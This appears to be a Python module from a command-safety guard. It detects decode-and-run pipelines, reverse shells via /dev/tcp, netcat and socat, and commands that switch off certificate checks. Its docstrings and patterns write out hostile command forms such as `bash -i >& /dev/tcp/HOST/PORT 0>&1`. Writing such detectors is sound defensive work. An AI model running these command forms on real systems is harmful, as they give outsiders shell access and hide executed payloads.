"""Decoded text that is run, shells for other machines, connections without certificate checks."""

import re
from collections.abc import Iterator, Mapping
from itertools import pairwise

from automode.guards.floor.rows import OFF, is_loopback, tables
from automode.guards.guard import CommandContext, See, excerpt, words
from automode.programs.inline_python import RUNS_DECODED
from automode.programs.table import programs
from automode.shell.options import arguments
from automode.shell.script import HOLE, Command, Script
from automode.shell.wrappers import SHELLS

_INTERPRETERS = SHELLS | words(
    "python python2 python3 perl ruby node nodejs php lua pwsh powershell deno bun osascript"
)
EVALUATES = words("eval source . exec invoke-expression add-type")
RUNNERS = _INTERPRETERS | EVALUATES | {RUNS_DECODED}


def decodes(command: Command) -> bool:
    """Whether the command turns encoded text into plain text on its standard output."""
    name = command.name
    texts = [word.text for word in command.args]
    if name in ("base64", "gbase64", "base32", "basenc"):
        return any(_flag(text, "dD") or text.startswith("--d") for text in texts)
    if name == "openssl":
        known = texts[:1] in (["enc"], ["base64"], ["aes-256-cbc"])
        return known and any(text in ("-d", "-base64d") for text in texts)
    if name == "xxd":
        return any(_flag(text, "r") or text == "-revert" for text in texts)
    return name in ("uudecode", "b64decode", "gb64decode")


def _flag(text: str, letters: str) -> bool:
    return text[:1] == "-" and text[:2] != "--" and any(letter in text for letter in letters)


def _reads_code(command: Command) -> bool:
    """Whether an interpreter takes its code from standard input."""
    names = [word.text for word in command.args if not word.text.startswith("-")]
    inline = any(word.text in ("-c", "-e", "-r", "-m", "-p") for word in command.args)
    return not inline and (not names or names[0] in ("/dev/stdin", "/dev/fd/0"))


def sees_decoded(context: CommandContext) -> str | None:
    command = context.command
    if command.program == RUNS_DECODED:
        return "the code decodes a text and runs it"
    if context.name in ("powershell", "pwsh") and any(map(_is_encoded_option, context.texts)):
        return f"the script for `{context.name}` is encoded"
    if context.name in EVALUATES and any(
        one.name == "convertfrom-base64" for one in context.script.commands
    ):
        return f"what is decoded is run by `{context.name}`"
    decoders = [c for c in context.script.commands if decodes(c)]
    if not decoders:
        return None
    piped = context.name in _INTERPRETERS and command.position and _reads_code(command)
    if piped and any(
        one.pipeline == command.pipeline and one.position < command.position for one in decoders
    ):
        return f"what is decoded goes into `{context.name}`"
    if _takes_output(context, decoders):
        return f"what is decoded is run by `{context.name}`"
    return None


def _is_encoded_option(text: str) -> bool:
    """`-EncodedCommand` and every abbreviation of it that PowerShell takes."""
    low = re.sub(r"^(?:/|--?|[\u2013-\u2015])", "-", text.casefold())
    return low == "-ec" or (len(low) > 1 and "-encodedcommand".startswith(low))


def _takes_output(context: CommandContext, decoders: list[Command]) -> bool:
    """`bash <(base64 -d x)`, `eval "$(… | base64 -d)"`, `sh -c "$(base64 -d <<< …)"`: the decoder
    stands in a substitution, which is listed right before the command that uses it."""
    command = context.command
    evaluates = context.name in EVALUATES or "-c" in context.texts or "-e" in context.texts
    unknown = [w for w in command.args if HOLE in w.text]
    if context.name not in _INTERPRETERS and context.name not in EVALUATES:
        return False
    before = _just_before(context.script, command)
    if before is None or not decodes(before):
        return bool(unknown) and evaluates and _assigned_from(context.script, decoders)
    literal = evaluates and any(w.value for w in command.args)
    return bool(unknown) or (literal and before.pipeline != command.pipeline)


def _assigned_from(script: Script, decoders: list[Command]) -> bool:
    """`x=$(base64 -d f); eval "$x"`: a decoder right before an assignment of an unknown value."""
    for decoder, after in pairwise(script.commands):
        if decoder in decoders and not after.words and after.assignments:
            return True
    return False


def _just_before(script: Script, command: Command) -> Command | None:
    previous: Command | None = None
    for one in script.commands:
        if one is command:
            return previous
        previous = one
    return None


_SHELLS = SHELLS | words("cmd powershell pwsh python python3 perl")


def _connection_as_input(context: CommandContext) -> str | None:
    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`."""
    for redirect in context.command.redirects:
        if redirect.target.text.startswith(("/dev/tcp/", "/dev/udp/")):
            return "its input and output are a connection"
    return None


def _is_shell(text: str) -> bool:
    return text.split(",", 1)[0].split()[0].rsplit("/", 1)[-1] in _SHELLS if text.strip() else False


def _netcat(context: CommandContext) -> str | None:
    texts = context.texts
    for index, text in enumerate(texts):
        name, equals, value = text.partition("=")
        short = name[:1] == "-" and name[:2] != "--" and name[-1:] in ("e", "c")
        if short or name in ("--exec", "--sh-exec", "--lua-exec"):
            after = texts[index + 1] if index + 1 < len(texts) else ""
            if _is_shell(value if equals else after):
                return "every connection gets a shell"
    return None


def _socat(context: CommandContext) -> str | None:
    parts = [text.partition(":") for text in context.texts]
    kinds = {kind.casefold() for kind, _, _ in parts}
    shell = any(
        kind.casefold() in ("exec", "system") and _is_shell(rest.strip("'\""))
        for kind, _, rest in parts
    )
    outside = any(kind.startswith(("tcp", "udp", "ssl", "openssl", "proxy")) for kind in kinds)
    return "the connection gets a shell" if shell and outside else None


CONNECTORS: Mapping[str, See] = {
    **dict.fromkeys(SHELLS, _connection_as_input),
    **dict.fromkeys(words("nc ncat netcat nc.traditional nc.openbsd"), _netcat),
    "socat": _socat,
}


def sees_remote_shell(context: CommandContext) -> str | None:
    return CONNECTORS[context.name](context)


_ON = words("1 true yes on")
_VARIABLES = {
    name: when
    for when, names in tables()["tls-verification"]["variables"].items()
    for name in names.split()
}
_CURL_FLAGS = words("-k --insecure --proxy-insecure --doh-insecure")
_LOCAL = tuple(
    f"{scheme}{host}{end}"
    for scheme in ("https://", "http://", "")
    for host in ("localhost", "127.0.0.1", "[::1]")
    for end in (":", "/")
)
_EXPORTING = words("export declare typeset readonly local setx launchctl")
_HOST_OPTIONS = ("--trusted-host", "--allow-insecure-host")


def sees_unchecked(context: CommandContext) -> str | None:
    for name, value in _variables(context):
        if weakens(name, value):
            return f"`{excerpt(name)}={excerpt(value)}` switches certificate checks off"
    match context.name:
        case "curl":
            return _curl(context)
        case "pip" | "pip3" | "uv" | "python" | "python3":
            return _pip(context.texts)
        case _:
            return None


def weakens(name: str, value: str) -> bool:
    """Whether a variable with this value switches certificate checks off."""
    name, value = name.upper(), value.strip("\"'").casefold()
    match _VARIABLES.get(name):
        case "off-when-false":
            return value in OFF
        case "off-when-true":
            return value in _ON
        case "off-when-set":
            return bool(value) and not is_loopback(f"https://{value}")
        case _:
            return name == "GOFLAGS" and "-insecure" in value


def _variables(context: CommandContext) -> Iterator[tuple[str, str]]:
    command = context.command
    for assignment in (*command.assignments, *command.environment):
        yield assignment.name, assignment.value.text
    if context.name in _EXPORTING:
        yield from ((text.partition("=")[0], text.partition("=")[2]) for text in context.texts)
    if context.name in ("setenv", "set", "setx"):
        plain = [text for text in context.texts if not text.startswith("-")]
        yield from [(plain[0], plain[1])] if len(plain) > 1 else []


def _curl(context: CommandContext) -> str | None:
    given = arguments(context.args, programs()["curl"].row.loose_spec)
    flag = next((one.name for one in given.options if one.name in _CURL_FLAGS), None)
    named = given.value("--url")
    urls = (*given.operands, named) if named is not None else given.operands
    # `https://localhost:$PORT/…`: the host is literal even where the rest is not known.
    here = any(word.text.startswith(_LOCAL) for word in urls) or (
        urls and all(word.value is not None and is_loopback(word.text) for word in urls)
    )
    return f"`{flag}` accepts any certificate" if flag and not here else None


def _pip(texts: list[str]) -> str | None:
    for text, after in pairwise((*texts, "")):
        name, equals, value = text.partition("=")
        if name in _HOST_OPTIONS or name.endswith(".trusted-host"):
            host = value if equals else after
            return None if is_loopback(f"https://{host}") else f"`{excerpt(host)}` goes unchecked"
    return None
